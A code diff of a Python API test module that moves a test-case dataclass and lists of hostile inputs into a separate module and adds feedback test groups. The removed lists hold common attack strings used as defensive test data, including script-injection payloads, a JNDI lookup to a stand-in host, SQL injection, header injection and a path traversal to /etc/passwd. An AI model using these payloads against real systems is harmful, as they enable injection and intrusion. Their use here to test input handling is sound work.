@@ -1,30 +1,12 @@
-"""What strangers may send and what they must hear: bodies, fields, texts, headers, methods and paths.
-
-Each case says the status that is expected and how many events or feedback rows it leaves behind.
-"""
+"""What strangers may send and what they must hear: bodies, fields, texts, headers, methods and paths."""
 
 import gzip
 import json
-from collections.abc import Mapping
-from dataclasses import dataclass, field
 from typing import Any
 
+from tests.api.hostile_case import BODY_LIMIT, HOSTILE_PAGES, HOSTILE_TEXTS, Case
+from tests.api.hostile_feedback import FEEDBACK_GROUPS
 from tests.api.running_api import make_event
-
-BODY_LIMIT = 65536
-
-
-@dataclass(frozen=True)
-class Case:
-    """`body`: bytes and texts as they are, everything else as JSON. `stored` are the rows that come of it."""
-
-    name: str
-    status: int
-    body: Any = None
-    stored: int = 0
-    method: str = "POST"
-    path: str = "/track"
-    headers: Mapping[str, str] = field(default_factory=dict)
 
 
 def batch(*events: Any, **fields: Any) -> dict[str, Any]:
@@ -179,38 +161,6 @@ def type_cases() -> list[Case]:
     ]
 
 
-HOSTILE_TEXTS = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "</title><svg onload=alert(1)>",
-    "{{7*7}}${7*7}<%= 7*7 %>",
-    "${jndi:ldap://evil.example/a}",
-    "=cmd|' /C calc'!A0",
-    "@everyone <@1> <#2> <t:0> [x](https://evil.example)",
-    "'; DROP TABLE event; --",
-    '" OR ""="',
-    "\u202egnirts desrever\u202c",
-    "z\u0301\u0302\u0303\u0304\u0305" * 20,
-    "\u200b\u200d\ufeff\u2028\u2029",
-    "\x1b[31mred\x1b[0m\x07",
-    "line\r\nSet-Cookie: a=b\r\n\r\n<html>",
-    "%00%0d%0a%2e%2e%2f",
-    "../../../../etc/passwd",
-    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 20,
-    "__proto__",
-    "\uffff\ufffe",
-)
-HOSTILE_PAGES = (
-    "javascript:alert(1)",
-    "data:text/html,<script>1</script>",
-    "//evil.example/x",
-    "https://user:secret@docs.example/p?token=1#fragment",
-    "\\\\evil.example\\share",
-    "/p?token=secret",
-    "http://[::1",
-)
-
-
 def text_cases() -> list[Case]:
     """Untrusted text is data: taken, cleaned, and harmless in every column."""
     cases = []
@@ -328,4 +278,5 @@ GROUPS = {
     "texts": text_cases,
     "headers": header_cases,
     "addresses": address_cases,
+    **FEEDBACK_GROUPS,
 }
